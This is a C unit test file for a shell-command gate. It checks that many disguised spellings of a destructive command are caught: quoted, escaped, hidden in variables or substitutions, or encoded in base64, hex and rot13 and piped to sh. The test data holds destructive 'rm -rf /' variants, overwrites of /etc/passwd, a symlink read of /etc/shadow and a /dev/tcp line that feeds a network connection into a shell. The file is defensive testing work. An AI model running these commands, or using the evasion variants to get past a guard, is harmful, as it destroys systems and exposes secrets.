/* SPDX-License-Identifier: Apache-2.0 */
/* The same command in many spellings: whatever the words look like, what they are is found. */
#include "gate_case.h"

#define RM "delete-vital"

static void quotes_and_escapes_change_nothing(void **state)
{
	static const struct gate_case cases[] = {
		DENY("rm -rf /", RM),
		DENY("'rm' -rf /", RM),
		DENY("r\"\"m -r'f' /", RM),
		DENY("\\r\\m -rf \\/", RM),
		DENY("$'\\x72\\x6d' -rf /", RM),
		DENY("$'\\162\\155' $'-rf' $'\\057'", RM),
		DENY("rm -rf \"/\"''", RM),
		DENY("$\"rm\" -rf /", RM),
		DENY("r\\\nm -r\\\nf /", RM),
		DENY("rm \\\n -rf \\\n /", RM),
		DENY("r\\\n\\\nm -rf /e\\\n\"tc\"", RM),
		ALLOW("echo 'rm -rf /'"),
		ALLOW("# rm -rf /"),
		ALLOW("echo \\# ; : 'rm -rf /'"),
	};
	CHECK(cases);
}

static void a_comment_does_not_go_on_in_the_next_line(void **state)
{
	static const struct gate_case cases[] = {
		DENY("# comment\\\nrm -rf /", RM),
		DENY("x='a\n' # comment\\\nrm -rf /", RM),
		UNPROVEN("# comment\\\nls", "line-break"),
		ALLOW("# comment \\\nls"),
	};
	CHECK(cases);
}

static void variables_are_followed(void **state)
{
	static const struct gate_case cases[] = {
		DENY("a=rm; $a -rf /", RM),
		DENY("a=r b=m; $a$b -rf /", RM),
		DENY("c='rm -rf /'; $c", RM),
		DENY("c=(rm -rf /); \"${c[@]}\"", RM),
		DENY("set -- rm -rf /; \"$@\"", RM),
		DENY("d=/; d+=etc; rm -rf $d", RM),
		DENY("rm -rf \"${x:-/}\"", RM),
		DENY("rm -rf ${x:=/etc}", RM),
		DENY("p=/etc/passwd; rm -rf \"${p%/*}\"", RM),
		DENY("p=x/etc; rm -rf ${p#x}", RM),
		DENY("p=/EtC; rm -rf ${p,,}", RM),
		DENY("p=/xyz; rm -rf ${p/xyz/etc}", RM),
		DENY("p=abc/etc; rm -rf ${p:3}", RM),
		DENY("n=p p=/etc; rm -rf ${!n}", RM),
		DENY("rm${IFS}-rf${IFS}/", RM),
		DENY("IFS=:; c=rm:-rf:/; $c", RM),
		DENY("printf -v c %s rm; $c -rf /", RM),
		DENY("read -r c <<< 'rm -rf /'; $c", RM),
		DENY("{ read c; } <<< rm; $c -rf /", RM),
		DENY("f() { local d=$1; rm -rf \"$d\"; }; f /", RM),
		DENY("if x; then d=/; else d=build; fi; rm -rf $d", RM),
		DENY("for d in build /etc; do rm -rf $d; done", RM),
		ALLOW("d=build; rm -rf \"$d\""),
		ALLOW("d=build; (d=/); rm -rf $d"),
		ALLOW("d=/; d=build; rm -rf $d"),
		UNPROVEN("rm -rf \"$UNSET\"", "delete-unknown"),
		UNPROVEN("$UNSET -rf /", "dynamic-command"),
	};
	CHECK(cases);
}

static void braces_patterns_and_tildes_are_expanded(void **state)
{
	static const struct gate_case cases[] = {
		UNPROVEN("{rm,-rf,/etc}", "parse-error"), /* the grammar does not know it */
		DENY("rm -rf /{etc,usr}", RM),
		DENY("rm -rf ~", RM),
		DENY("rm -rf ~/", RM),
		DENY("rm -rf /*", RM),
		DENY("rm -rf /e?c", RM),
		DENY("rm -rf /[e]tc", RM),
		DENY("/bin/r? -rf /home", RM),
		DENY("cd / && rm -rf *", RM),
		DENY("rm -rf ./* .[!.]*", RM),
		ALLOW("rm -rf './~'"),
		ALLOW("rm -rf {build,dist}/*"),
		ALLOW("rm -rf 'build/*' \"{a,b}\""),
	};
	CHECK(cases);
}

static void substitutions_give_their_output(void **state)
{
	static const struct gate_case cases[] = {
		DENY("$(echo rm) -rf /", RM),
		DENY("`echo rm` `printf %s -rf` `printf /`", RM),
		DENY("rm -rf $(echo /)", RM),
		DENY("rm -rf \"$(dirname /etc/passwd)\"", RM),
		DENY("rm -rf $(cd / && pwd)", RM),
		DENY("x=$(rm -rf /)", RM),
		DENY("echo \"$(rm -rf /)\"", RM),
		DENY("echo `rm -rf /`", RM),
		DENY(": <(rm -rf /)", RM),
		DENY("cat <<E\n$(rm -rf /)\nE", RM),
		DENY("echo $((1 + $(rm -rf /)))", RM),
		DENY("[[ -n $(rm -rf /) ]]", RM),
		DENY("a[$(rm -rf /)]=1", RM),
		ALLOW("cat <<'E'\n$(rm -rf /)\nE"),
		ALLOW("d=$(mktemp -d); rm -rf \"$d\""),
		ALLOW("d=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd); cd \"$d/..\" && rm -rf build"),
		DENY("d=$(dirname \"$0\"); rm -rf \"$d/..\"", RM),
	};
	CHECK(cases);
}

static void redirections_stand_anywhere_among_the_words(void **state)
{
	static const struct gate_case cases[] = {
		DENY("rm 2>/dev/null -rf /", RM),
		DENY("rm -rf 2>&- /", RM),
		DENY("2>&1 >x rm -rf /", RM),
		DENY("rm <<< x -rf /", RM),
		DENY("true && rm 2>&1 -rf /", RM),
		DENY("false || rm >x -rf / 2>y", RM),
		DENY("> /etc/passwd", "write-persistent"),
		DENY("{ echo x; } >> /etc/passwd", "write-persistent"),
		DENY("cat <<E > /etc/passwd\nx\nE", "write-persistent"),
		DENY("exec 5<>/dev/tcp/192.0.2.1/1; sh <&5", "run-download"),
		ALLOW("make 2>&1 >/dev/null | tee build.log"),
		ALLOW("exec 3>log; echo x >&3; exec 3>&-"),
	};
	CHECK(cases);
}

static void what_was_written_is_what_is_run(void **state)
{
	static const struct gate_case cases[] = {
		DENY("echo 'rm -rf /' > x; sh x", RM),
		DENY("echo 'rm -rf /' | tee x; bash ./x", RM),
		DENY("cat > x <<'E'\nrm -rf /\nE\nchmod +x x; ./x", RM),
		DENY("printf 'rm -rf /' | sh", RM),
		DENY("bash <<< 'rm -rf /'", RM),
		DENY("source <(echo 'rm -rf /')", RM),
		DENY("echo 'import os; os.system(\"rm -rf /\")' | python3", RM),
		DENY("ln -s / x; rm -rf x/etc", RM),
		DENY("ln -s /etc/shadow x; cat x", "read-secret"),
		ALLOW("echo 'rm -rf /' > x; cat x"),
		ALLOW("echo ls > x; sh x"),
	};
	CHECK(cases);
}

static void text_that_was_encoded_is_decoded(void **state)
{
	static const struct gate_case cases[] = {
		DENY("echo cm0gLXJmIC8K | base64 -d | sh", RM),
		DENY("echo 726d202d7266202f | xxd -r -p | sh", RM),
		DENY("echo '/ fr- mr' | rev | sh", RM),
		DENY("echo 'ez -es /' | tr a-z n-za-m | sh", RM),
		DENY("echo bHMK | base64 -d | sh", "run-decoded"),
		DENY("base64 -d < x | sh", "run-decoded"),
		ALLOW("echo bHMK | base64 -d"),
		ALLOW("u=$(echo foo | tr a-z A-Z); eval \"X_$u=1\""),
		ALLOW("tr -d '\\r' < x > y"),
	};
	CHECK(cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(quotes_and_escapes_change_nothing),
		cmocka_unit_test(a_comment_does_not_go_on_in_the_next_line),
		cmocka_unit_test(variables_are_followed),
		cmocka_unit_test(braces_patterns_and_tildes_are_expanded),
		cmocka_unit_test(substitutions_give_their_output),
		cmocka_unit_test(redirections_stand_anywhere_among_the_words),
		cmocka_unit_test(what_was_written_is_what_is_run),
		cmocka_unit_test(text_that_was_encoded_is_decoded),
	};
	return cmocka_run_group_tests(tests, open_gate, close_gate);
}
